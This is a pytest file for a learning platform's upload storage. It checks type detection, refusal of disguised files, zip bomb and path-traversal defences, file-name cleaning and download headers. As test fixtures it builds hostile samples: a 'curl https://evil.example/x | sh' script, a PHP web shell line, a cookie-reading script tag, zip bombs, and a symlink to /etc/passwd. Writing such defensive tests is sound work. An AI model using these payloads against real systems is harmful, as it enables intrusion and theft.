"""Items 26 to 29 of SECURITY.md for the storage every upload goes through.

The operations are called as a view calls them, with a file-like stream and the name the browser
sent; the files are built here, byte by byte, the way an attacker would build them.
"""

import hashlib
import io
import re
import stat
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from sqlalchemy import select

from learnplatform import storage
from learnplatform.extensions import db
from learnplatform.storage import (
    ATTACHMENT_TYPES,
    CAPTION_TYPES,
    DOCUMENT_TYPES,
    IMAGE_TYPES,
    StorageRefused,
    StoredFile,
    clean_file_name,
    delete_stored,
    path_of,
    save_upload,
    send_stored,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODP = "application/vnd.oasis.opendocument.presentation"
KEY_PATTERN = re.compile(r"[0-9a-f]{2}/[0-9a-f]{32}")

# Sample files: small, but with the first bytes real files of each type start with.

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< >>\n%%EOF\n"


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(64)
    + b"\xff\xd9"
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + bytes(24)
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + bytes(400)
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00" + bytes(32)
M4A = struct.pack(">I", 24) + b"ftypM4A \x00\x00\x00\x00M4A isom" + bytes(64)
MP4 = struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + struct.pack(">I", 8) + b"free"
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm" + bytes(64)
OGG_AUDIO = b"OggS\x00\x02" + bytes(22) + b"\x01\x1e\x01vorbis" + bytes(32)
OGG_VIDEO = b"OggS\x00\x02" + bytes(22) + b"\x01\x2a\x80theora" + bytes(32)
TEXT = "Résumé of Resolution 2396 (2017): returning foreign terrorist fighters.\n".encode()


def archive(entries: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive holding ``entries`` in order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zip_file:
        for name, data in entries.items():
            zip_file.writestr(name, data)
    return buffer.getvalue()


def office(part: str, content_type: str, extra: dict | None = None) -> bytes:
    """A minimal Office Open XML document whose main part is ``part``."""
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )
    relations = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="' + part + '" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument"/></Relationships>'
    )
    return archive(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relations,
            part: '<?xml version="1.0"?><document>Lesson notes</document>',
            **(extra or {}),
        }
    )


def docx(extra: dict | None = None) -> bytes:
    return office(
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        extra,
    )


def open_document(media_type: str) -> bytes:
    """A minimal OpenDocument file: ``mimetype`` first and stored, as the standard asks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zip_file:
        zip_file.writestr("mimetype", media_type, compress_type=zipfile.ZIP_STORED)
        zip_file.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        zip_file.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest/>')
    return buffer.getvalue()


def upload(data: bytes, name: str = "upload.bin", *, allowed=ATTACHMENT_TYPES, **kwargs):
    """Save ``data`` as a view would save a file posted as ``name``."""
    return save_upload(io.BytesIO(data), name, allowed=allowed, **kwargs)


def files_in_storage(app) -> list[Path]:
    """Every file under STORAGE_DIR, temporary ones included."""
    root = Path(app.config["STORAGE_DIR"])
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def stored_rows() -> list[StoredFile]:
    return list(db.session.scalars(select(StoredFile)))


def assert_refused(app, data: bytes, name: str, *, allowed=ATTACHMENT_TYPES) -> StorageRefused:
    """Uploading ``data`` as ``name`` is refused and leaves neither a file nor a row behind."""
    with pytest.raises(StorageRefused) as refused:
        upload(data, name, allowed=allowed)
    assert str(refused.value)  # a message for the person who uploaded it
    assert files_in_storage(app) == []
    assert stored_rows() == []
    return refused.value


# 26. What is accepted is recognised from its content and kept under a generated name.
@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (PDF, "Briefing note.pdf", "application/pdf"),
        (docx(), "Case study.docx", DOCX),
        (office("xl/workbook.xml", "application/xml"), "Figures.xlsx", XLSX),
        (office("ppt/presentation.xml", "application/xml"), "Slides.pptx", PPTX),
        (open_document(ODT), "Notes.odt", ODT),
        (open_document(ODS), "Figures.ods", ODS),
        (open_document(ODP), "Slides.odp", ODP),
        (TEXT, "Summary.txt", "text/plain"),
        (png(), "Map.png", "image/png"),
        (JPEG, "Photo.jpg", "image/jpeg"),
        (GIF, "Chart.gif", "image/gif"),
        (WEBP, "Chart.webp", "image/webp"),
        (MP3, "Interview.mp3", "audio/mpeg"),
        (WAV, "Interview.wav", "audio/wav"),
        (M4A, "Interview.m4a", "audio/mp4"),
        (OGG_AUDIO, "Interview.ogg", "audio/ogg"),
        (MP4, "Webinar.mp4", "video/mp4"),
        (WEBM, "Webinar.webm", "video/webm"),
        (OGG_VIDEO, "Webinar.ogv", "video/ogg"),
    ],
)
def test_accepted_files_are_kept_under_a_generated_name(
    app, app_context, create_user, data, name, content_type
):
    trainer = create_user(role="trainer")

    stored = upload(data, name, uploaded_by=trainer)

    assert stored.id is not None  # flushed
    assert KEY_PATTERN.fullmatch(stored.storage_key)
    assert stored.storage_key[:2] == stored.storage_key[3:5]
    stem = name.rsplit(".", 1)[0].lower()
    assert not any(word in stored.storage_key for word in stem.split())
    assert stored.original_name == name
    assert stored.content_type == content_type
    assert stored.size == len(data)
    assert stored.sha256 == hashlib.sha256(data).hexdigest()
    assert stored.uploaded_by_id == trainer.id
    assert path_of(stored).read_bytes() == data
    assert files_in_storage(app) == [path_of(stored)]


def test_each_upload_gets_its_own_name(app_context):
    first, second = upload(PDF, "same.pdf"), upload(PDF, "same.pdf")

    assert first.storage_key != second.storage_key
    assert path_of(first).read_bytes() == path_of(second).read_bytes() == PDF


def test_the_name_never_decides_the_type_but_the_download_opens_as_what_it_is(app_context):
    stored = upload(PDF, "notes.html")

    assert stored.content_type == "application/pdf"
    assert stored.original_name == "notes.html.pdf"
    assert upload(TEXT, "readme").original_name == "readme.txt"
    assert upload(JPEG, "photo.JPEG").original_name == "photo.JPEG"


def test_macro_free_text_from_any_script_is_plain_text(app_context):
    text = "Résumé — резюме — ملخص — 摘要 — a < b and c > d\n".encode() * 20000  # ~1.5 MB

    stored = upload(text, "notes.txt", allowed=DOCUMENT_TYPES)

    assert stored.content_type == "text/plain"
    assert stored.size == len(text)


# 26. HTML, SVG, scripts and executables are refused whatever they are called.
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46) + b"PE\x00\x00"
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100)
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (HTML, "report.pdf"),
        (HTML, "report.docx"),
        (b"\xef\xbb\xbf \n\t" + HTML, "report.txt"),
        (b"Dear colleague,\n<script>alert(1)</script>", "letter.txt"),
        (SVG, "map.png"),
        (SVG, "map.pdf"),
        (b'<?xml version="1.0"?>' + SVG, "map.docx"),
        (b"<?php system($_GET['c']); ?>", "notes.txt"),
        (ELF, "report.pdf"),
        (ELF, "report.docx"),
        (WINDOWS_EXE, "report.pdf"),
        (WINDOWS_EXE + docx(), "report.docx"),  # a self-extracting archive
        (MACH_O, "report.pdf"),
        (SHELL, "report.pdf"),
        (SHELL, "report.docx"),
        (b"\xef\xbb\xbf#!/usr/bin/env python\nimport os\n", "report.txt"),
        (b"Plain words, then a NUL\x00 and more", "notes.txt"),
        ("Résumé in Latin-1".encode("latin-1"), "notes.txt"),
        (b"UTF-8 text at first. " * 100 + bytes(range(256)), "notes.txt"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "legacy.doc"),
        (b"\x1f\x8b\x08\x00" + bytes(32), "archive.pdf"),
    ],
)
def test_disguised_files_are_refused_and_nothing_is_kept(app, app_context, data, name):
    refused = assert_refused(app, data, name)

    assert "PDF" in str(refused) and "Word (.docx)" in str(refused)  # what is accepted instead


def test_a_type_the_upload_does_not_allow_is_refused_naming_what_is_accepted(app, app_context):
    refused = assert_refused(app, PDF, "brief.pdf", allowed=IMAGE_TYPES)

    message = str(refused)
    assert "PNG image" in message and "WebP image" in message
    assert "PDF" not in message


# Captions: a WebVTT file is text that says so on its first line.
CUES = "\n\n00:00:00.000 --> 00:00:04.000\n<v Amina>Welcome to the webinar.\n"


@pytest.mark.parametrize(
    "data",
    [
        ("WEBVTT" + CUES).encode(),
        ("WEBVTT - Returning foreign terrorist fighters" + CUES).encode(),
        ("WEBVTT\tRésumé" + CUES).encode(),
        ("\ufeffWEBVTT" + CUES).encode(),
        ("WEBVTT" + CUES).replace("\n", "\r\n").encode(),
    ],
    ids=["bare", "with-title", "tab-title", "byte-order-mark", "crlf"],
)
def test_captions_are_recognised_as_webvtt(app_context, data):
    stored = upload(data, "captions.vtt", allowed=CAPTION_TYPES)

    assert stored.content_type == "text/vtt"
    assert stored.original_name == "captions.vtt"


def test_a_webvtt_text_where_captions_are_not_asked_for_is_plain_text(app_context):
    stored = upload(("WEBVTT" + CUES).encode(), "captions.vtt", allowed=DOCUMENT_TYPES)

    assert stored.content_type == "text/plain"
    assert stored.original_name == "captions.vtt.txt"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (HTML, "captions.vtt"),
        (b"WEBVTT\n\n" + HTML, "captions.vtt"),
        (("Welcome to the webinar." + CUES).encode(), "captions.vtt"),
        (("WEBVTTX" + CUES).encode(), "captions.vtt"),
        (("NOTE first\nWEBVTT" + CUES).encode(), "captions.vtt"),
        (PDF, "captions.vtt"),
    ],
    ids=["html", "webvtt-then-html", "no-header", "header-run-on", "header-not-first", "pdf"],
)
def test_what_is_not_webvtt_is_refused_as_captions(app, app_context, data, name):
    refused = assert_refused(app, data, name, allowed=CAPTION_TYPES)

    assert "WebVTT captions (.vtt)" in str(refused)


@pytest.mark.parametrize(
    "data",
    [
        archive({"notes.txt": "plain zip"}),
        archive({"mimetype": "application/epub+zip", "content.opf": "<package/>"}),
        archive({"[Content_Types].xml": "<Types/>", "other/part.xml": "<x/>"}),
        archive(
            {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", "xl/a.xml": "<x/>"}
        ),
        docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}),
        archive({"mimetype": ODT, "content.xml": "<office:document-content/>"}),
        b"PK\x03\x04" + bytes(100),  # starts like an archive, has no directory
    ],
    ids=[
        "plain-zip",
        "epub",
        "no-main-part",
        "word-and-excel",
        "macros",
        "compressed-mimetype",
        "truncated",
    ],
)
def test_archives_that_are_not_office_documents_are_refused(app, app_context, data):
    assert_refused(app, data, "document.docx")


# Over-size and empty files.
class EndlessStream:
    """An upload that never ends, counting what was read from it."""

    def __init__(self) -> None:
        self.bytes_read = 0

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "the whole stream must never be asked for"
        self.bytes_read += size
        return b"A" * size


def test_an_oversized_upload_is_cut_off_at_the_limit_and_nothing_is_kept(app, app_context):
    limit = 3 * storage.CHUNK_SIZE + 17
    stream = EndlessStream()

    with pytest.raises(StorageRefused, match="larger than 3 MB"):
        save_upload(stream, "big.txt", allowed=ATTACHMENT_TYPES, max_bytes=limit)

    assert stream.bytes_read == limit + 1
    assert files_in_storage(app) == []
    assert stored_rows() == []


def test_the_default_limit_is_the_attachment_limit(app, app_context):
    app.config["ATTACHMENT_MAX_BYTES"] = 1000
    stream = EndlessStream()

    with pytest.raises(StorageRefused, match="larger than 1000 bytes"):
        save_upload(stream, "big.txt", allowed=ATTACHMENT_TYPES)

    assert stream.bytes_read == 1001
    assert files_in_storage(app) == []


def test_a_file_of_exactly_the_limit_is_kept(app_context):
    data = b"x" * 1000

    assert upload(data, "full.txt", max_bytes=1000).size == 1000


def test_an_empty_file_is_refused(app, app_context):
    refused = assert_refused(app, b"", "empty.pdf")

    assert "empty" in str(refused)


# 28. Zip bombs, paths out of the archive and links: refused before anything is unpacked.
def many_entries() -> bytes:
    return docx({f"word/media/image{n}.png": b"x" for n in range(25)})


def understated_entries() -> bytes:
    """An archive whose end record claims one entry while its directory lists many more."""
    data = bytearray(many_entries())
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 1, 1)
    return bytes(data)


def unpacks_too_large() -> bytes:
    # Random bytes do not compress: only the declared total is too large, not the ratio.
    return docx({"word/media/video.bin": bytes(range(256)) * 1024})  # 256 KiB


def compressed_too_tightly() -> bytes:
    return docx({"word/media/bomb.bin": bytes(5 * 1024 * 1024)})  # 5 MiB of zeros, ~5 KB packed


def with_entry(info: zipfile.ZipInfo, data: bytes = b"x") -> bytes:
    buffer = io.BytesIO(docx())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about a duplicate name; that is the point
        with zipfile.ZipFile(buffer, "a") as zip_file:
            zip_file.writestr(info, data)
    return buffer.getvalue()


def named(name: str) -> bytes:
    return with_entry(zipfile.ZipInfo(name))


def with_nul_in_name() -> bytes:
    # zipfile cannot write a NUL in a name: write a placeholder and change it in both headers.
    return named("word/evilX.xml").replace(b"word/evilX.xml", b"word/evil\x00.xml")


def symlink() -> bytes:
    info = zipfile.ZipInfo("word/media/link.png")
    info.create_system = 3  # Unix
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return with_entry(info, b"../../../../etc/passwd")


def encrypted() -> bytes:
    data = bytearray(docx())
    directory = data.find(b"PK\x01\x02")
    data[directory + 8] |= 0x01  # general purpose flag: encrypted
    return bytes(data)


ZIP_ATTACKS = {
    "too-many-entries": many_entries,
    "understated-entries": understated_entries,
    "unpacks-too-large": unpacks_too_large,
    "compressed-too-tightly": compressed_too_tightly,
    "parent-path": lambda: named("../evil"),
    "nested-parent-path": lambda: named("word/../../evil"),
    "absolute-path": lambda: named("/abs"),
    "drive-path": lambda: named("C:/Windows/evil"),
    "backslash": lambda: named("a\\b"),
    "backslash-parent": lambda: named("..\\evil"),
    "nul-in-name": with_nul_in_name,
    "symlink": symlink,
    "duplicate-name": lambda: named("word/document.xml"),
    "encrypted": encrypted,
}


@pytest.mark.parametrize("build", ZIP_ATTACKS.values(), ids=ZIP_ATTACKS.keys())
def test_dangerous_archives_are_refused_before_any_entry_is_read(
    app, app_context, monkeypatch, build
):
    app.config["ZIP_MAX_ENTRIES"] = 20
    app.config["ZIP_MAX_UNPACKED_BYTES"] = 128 * 1024
    data = build()

    def no_unpacking(*args, **kwargs):
        raise AssertionError("an entry was read before the archive was checked")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_unpacking)

    assert_refused(app, data, "document.docx")


def test_a_huge_central_directory_is_refused_before_the_archive_is_opened(
    app, app_context, monkeypatch
):
    app.config["ZIP_MAX_ENTRIES"] = 1  # room for 1 KB of directory
    data = understated_entries()  # 28 entries, about 2 KB of directory, claims 1

    def not_opened(*args, **kwargs):
        raise AssertionError("the archive was opened")

    monkeypatch.setattr(zipfile.ZipFile, "__init__", not_opened)

    refused = assert_refused(app, data, "document.docx")

    assert "more than 1 parts" in str(refused)


def test_an_ordinary_document_passes_the_archive_checks(app, app_context):
    app.config["ZIP_MAX_ENTRIES"] = 20
    app.config["ZIP_MAX_UNPACKED_BYTES"] = 128 * 1024
    # Well-compressed XML under a megabyte is ordinary, whatever its ratio.
    data = docx({"word/styles.xml": "<w:style/>" * 10000})

    assert upload(data, "notes.docx").content_type == DOCX


# 27. File names: stored under a generated name; the shown name is cleaned.
@pytest.mark.parametrize(
    ("uploaded", "shown"),
    [
        ("../../x", "x"),
        ("..\\..\\windows\\system32\\x.pdf", "x.pdf"),
        ("C:\\Users\\amina\\Desktop\\Brief.pdf", "Brief.pdf"),
        ("brief\x00.pdf", "brief.pdf"),
        ("line\r\nbreak\t.pdf", "linebreak.pdf"),
        ("CON", "file-CON"),
        ("con.pdf", "file-con.pdf"),
        ("Lpt1.tar.gz", "file-Lpt1.tar.gz"),
        ("COM9", "file-COM9"),
        ("CONSTITUTION.pdf", "CONSTITUTION.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("\u2066a\u2069\u200e\u200f\u061cb\u202a\u202b\u202c\u202d.pdf", "ab.pdf"),
        ("  ..report.. ", "report"),
        ("...", "file"),
        ("", "file"),
        ("/", "file"),
        ("Résolution 2396 (2017).pdf", "Résolution 2396 (2017).pdf"),
        ("Re\u0301sume\u0301.pdf", "Résumé.pdf"),  # decomposed, as macOS sends it
    ],
)
def test_file_names_are_cleaned(uploaded, shown):
    assert clean_file_name(uploaded) == shown


def test_a_long_name_is_cut_keeping_its_extension():
    cleaned = clean_file_name("a" * 300 + ".pdf")

    assert cleaned == "a" * 196 + ".pdf"
    assert clean_file_name("b" * 300) == "b" * 200
    assert clean_file_name("c" * 150 + "." + "d" * 150) == ("c" * 150 + "." + "d" * 150)[:200]


@pytest.mark.parametrize(
    ("uploaded", "shown"),
    [
        ("../../x", "x.pdf"),
        ("brief\x00.pdf", "brief.pdf"),
        ("CON", "file-CON.pdf"),
        ("report\u202efdp.html", "reportfdp.html.pdf"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
        ("a" * 300, "a" * 196 + ".pdf"),
    ],
)
def test_uploads_with_hostile_names_are_stored_under_generated_names(
    app, app_context, uploaded, shown
):
    stored = upload(PDF, uploaded)

    assert stored.original_name == shown
    assert KEY_PATTERN.fullmatch(stored.storage_key)
    assert path_of(stored).is_relative_to(Path(app.config["STORAGE_DIR"]).resolve())


@pytest.mark.parametrize(
    "key",
    ["../x", "../../etc/passwd", "/etc/passwd", "ab/../../x", "ab/../..", "", ".", "ab/\x00cd"],
)
def test_path_of_never_leaves_the_storage_folder(app_context, key):
    with pytest.raises(ValueError):
        path_of(StoredFile(storage_key=key))


def test_path_of_refuses_a_link_out_of_the_storage_folder(app, app_context, tmp_path):
    root = Path(app.config["STORAGE_DIR"])
    root.mkdir(parents=True)
    (root / "ab").symlink_to(tmp_path)

    with pytest.raises(ValueError):
        path_of(StoredFile(storage_key="ab/" + "0" * 32))


# 29. Downloads: attachment, nosniff, private no-store, no script even inline; ranges work.
def test_a_download_is_an_attachment_that_no_browser_sniffs_caches_or_runs(app):
    with app.app_context():
        stored = upload(PDF, "Résolution 2396 (2017).pdf")

        with app.test_request_context():
            response = send_stored(stored)
            response.close()

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''R%C3%A9solution%202396%20%282017%29.pdf" in disposition
    assert 'filename="Resolution 2396 (2017).pdf"' in disposition  # for browsers without RFC 5987
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response.headers["ETag"] == f'"{stored.sha256}"'
    assert response.content_length == len(PDF)


def test_a_download_carries_the_cleaned_name(app):
    with app.app_context():
        stored = upload(PDF, "..\\..\\CON\u202e.pdf")

        with app.test_request_context():
            response = send_stored(stored)
            response.close()

    assert response.headers["Content-Disposition"] == "attachment; filename=file-CON.pdf"


def test_an_inline_download_under_another_name_still_cannot_run_script(app):
    with app.app_context():
        stored = upload(png(), "map.png")

        with app.test_request_context():
            response = send_stored(
                stored, as_attachment=False, download_name="Map of the region.png"
            )
            response.direct_passthrough = False
            body = response.get_data()
            response.close()

    assert body == png()
    assert response.headers["Content-Disposition"] == 'inline; filename="Map of the region.png"'
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_download_name_given_by_the_view_is_cleaned_too(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")

        with app.test_request_context():
            response = send_stored(stored, download_name="../Brief\r\nSet-Cookie: x=1.pdf")
            response.close()

    assert response.headers["Content-Disposition"] == (
        'attachment; filename="BriefSet-Cookie: x=1.pdf"'
    )


def test_a_range_request_gets_those_bytes_only(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")

        with app.test_request_context(headers={"Range": "bytes=0-3"}):
            response = send_stored(stored)
            response.direct_passthrough = False
            body = response.get_data()
            response.close()

    assert response.status_code == 206
    assert body == b"%PDF"
    assert response.headers["Content-Range"] == f"bytes 0-3/{len(PDF)}"


def test_a_download_the_browser_already_has_is_not_sent_again(app):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")

        with app.test_request_context(headers={"If-None-Match": f'"{stored.sha256}"'}):
            response = send_stored(stored)
            response.close()

    assert response.status_code == 304


def test_the_sandbox_policy_survives_the_headers_every_page_gets(app, client):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")
        db.session.commit()
        stored_id = stored.id

    @app.get("/test-only/download/<int:stored_id>")
    def download(stored_id):
        return send_stored(db.get_or_404(StoredFile, stored_id))

    response = client.get(f"/test-only/download/{stored_id}")
    response.close()

    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_a_file_missing_from_the_disk_is_not_found_and_logged(app, client, caplog):
    with app.app_context():
        stored = upload(PDF, "brief.pdf")
        db.session.commit()
        stored_id = stored.id
        path_of(stored).unlink()

    @app.get("/test-only/missing/<int:stored_id>")
    def download(stored_id):
        return send_stored(db.get_or_404(StoredFile, stored_id))

    response = client.get(f"/test-only/missing/{stored_id}")

    assert response.status_code == 404
    assert f"stored file {stored_id} is missing" in caplog.text


# Serving: one range, resumed downloads, the front server, memory, and completed downloads.
@dataclass
class Served:
    """A stored file served at ``url`` by a test-only view calling :func:`send_stored`."""

    url: str
    storage_key: str
    path: Path
    etag: str
    size: int
    #: one entry per download the view was told had completed
    completed: list[int] = field(default_factory=list)


def serve(app, data: bytes | None = None, name: str = "brief.pdf", *, stream=None, **options):
    """Keep ``data`` (or what ``stream`` holds) and serve it as a download view would."""
    with app.app_context():
        stored = save_upload(
            io.BytesIO(data) if stream is None else stream,
            name,
            allowed=ATTACHMENT_TYPES,
            max_bytes=64 * 1024 * 1024,
        )
        db.session.commit()
        stored_id = stored.id
        served = Served(
            url=f"/test-only/files/{stored_id}",
            storage_key=stored.storage_key,
            path=path_of(stored),
            etag=stored.sha256,
            size=stored.size,
        )

    @app.get("/test-only/files/<int:stored_id>")  # answers HEAD too, as every GET view does
    def serve_file(stored_id):
        return send_stored(
            db.get_or_404(StoredFile, stored_id),
            on_complete=lambda: served.completed.append(stored_id),
            **options,
        )

    return served


class FiniteStream:
    """An upload of ``size`` bytes of text, made as it is read, never held whole."""

    def __init__(self, size: int) -> None:
        self.left = size

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "the whole stream must never be asked for"
        size = min(size, self.left)
        self.left -= size
        return b"A" * size


@pytest.mark.parametrize(
    ("header", "start", "end"),
    [("bytes=0-3", 0, 4), ("bytes=-4", len(PDF) - 4, len(PDF)), ("bytes=4-", 4, len(PDF))],
    ids=["first-bytes", "last-bytes", "from-a-byte-on"],
)
def test_a_player_asking_for_one_range_gets_those_bytes_only(app, client, header, start, end):
    served = serve(app, PDF)

    with client.get(served.url, headers={"Range": header}) as response:
        body = response.get_data()

    assert response.status_code == 206
    assert body == PDF[start:end]
    assert response.content_length == end - start
    assert response.headers["Content-Range"] == f"bytes {start}-{end - 1}/{len(PDF)}"
    assert response.headers["Accept-Ranges"] == "bytes"


def test_a_whole_download_says_ranges_are_accepted(app, client):
    served = serve(app, PDF)

    with client.get(served.url) as response:
        body = response.get_data()

    assert response.status_code == 200
    assert body == PDF
    assert response.content_length == len(PDF)
    assert response.headers["Accept-Ranges"] == "bytes"
    assert "Content-Range" not in response.headers


@pytest.mark.parametrize(
    "header", ["bytes=0-1,4-5", "bytes=999999-", f"bytes={len(PDF)}-{len(PDF) + 10}"]
)
def test_several_ranges_or_one_past_the_end_are_refused_naming_the_size(app, client, header):
    served = serve(app, PDF)

    with client.get(served.url, headers={"Range": header}) as response:
        body = response.get_data()

    assert response.status_code == 416
    assert response.headers["Content-Range"] == f"bytes */{len(PDF)}"
    assert PDF not in body
    assert served.completed == []


@pytest.mark.parametrize("header", ["bytes=abc", "bytes=4-1", "pages=1-2", "bytes"])
def test_a_range_header_that_cannot_be_read_gets_the_whole_file(app, client, header):
    served = serve(app, PDF)

    with client.get(served.url, headers={"Range": header}) as response:
        body = response.get_data()

    assert response.status_code == 200
    assert body == PDF
    assert "Content-Range" not in response.headers


def test_resuming_a_download_of_a_file_that_changed_starts_again(app, client):
    served = serve(app, PDF)
    with client.head(served.url) as first:
        last_modified = first.headers["Last-Modified"]

    def get(if_range: str):
        with client.get(served.url, headers={"Range": "bytes=4-", "If-Range": if_range}) as r:
            return r.status_code, r.get_data()

    assert get('"' + "0" * 64 + '"') == (200, PDF)
    assert get(f'"{served.etag}"') == (206, PDF[4:])
    assert get("Mon, 01 Jan 2024 00:00:00 GMT") == (200, PDF)
    assert get(last_modified) == (206, PDF[4:])


def test_a_download_the_browser_already_has_is_neither_sent_nor_counted(app, client):
    served = serve(app, PDF)

    with client.get(served.url, headers={"If-None-Match": f'"{served.etag}"'}) as response:
        body = response.get_data()

    assert response.status_code == 304
    assert body == b""
    assert served.completed == []


def test_a_whole_download_is_counted_once_after_its_last_byte_is_sent(app, client):
    served = serve(app, PDF)

    with client.get(served.url) as response:
        assert response.get_data() == PDF
        assert served.completed == []  # not until the server is done with the response

    assert served.completed == [int(served.url.rsplit("/", 1)[1])]


def test_the_range_that_finishes_a_resumed_download_is_counted(app, client):
    served = serve(app, PDF)

    with client.get(served.url, headers={"Range": "bytes=10-"}) as response:
        assert response.get_data() == PDF[10:]

    assert len(served.completed) == 1


def test_a_range_that_stops_before_the_end_is_not_counted(app, client):
    served = serve(app, PDF)

    with client.get(served.url, headers={"Range": "bytes=2-5"}) as response:
        assert response.get_data() == PDF[2:6]

    assert served.completed == []


def test_a_download_broken_off_before_the_end_is_not_counted(app, client):
    served = serve(app, stream=FiniteStream(2 * storage.SEND_CHUNK_SIZE + 10), name="big.txt")

    with client.get(served.url) as response:
        first = next(iter(response.response))  # the browser goes away after one chunk

    assert first == b"A" * storage.SEND_CHUNK_SIZE
    assert served.completed == []


def test_asking_only_for_the_headers_is_not_counted(app, client):
    served = serve(app, PDF)

    with client.head(served.url) as response:
        body = response.get_data()

    assert response.status_code == 200
    assert body == b""
    assert response.content_length == len(PDF)
    assert served.completed == []


def test_a_large_download_is_sent_in_chunks_without_filling_memory(app, client):
    size = 40 * 1024 * 1024
    served = serve(app, stream=FiniteStream(size), name="big.txt")
    sent = largest = 0

    tracemalloc.start()
    try:
        with client.get(served.url) as response:
            for chunk in response.response:
                sent += len(chunk)
                largest = max(largest, len(chunk))
            _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert response.status_code == 200
    assert response.content_length == sent == size
    assert largest == storage.SEND_CHUNK_SIZE
    assert peak < 4 * 1024 * 1024, f"{peak} bytes held while sending {size}"
    assert len(served.completed) == 1


@pytest.mark.parametrize(
    ("setting", "header", "value"),
    [
        ("x-accel-redirect", "X-Accel-Redirect", lambda s: f"/_storage/{s.storage_key}"),
        ("x-sendfile", "X-Sendfile", lambda s: str(s.path)),
    ],
)
def test_the_front_server_can_send_the_file_instead(app, client, setting, header, value):
    app.config["STORAGE_SENDFILE"] = setting
    served = serve(app, PDF, as_attachment=False)

    with client.get(served.url, headers={"Range": "bytes=0-3"}) as response:
        body = response.get_data()

    assert response.status_code == 200  # the front server answers the range itself
    assert response.headers[header] == value(served)
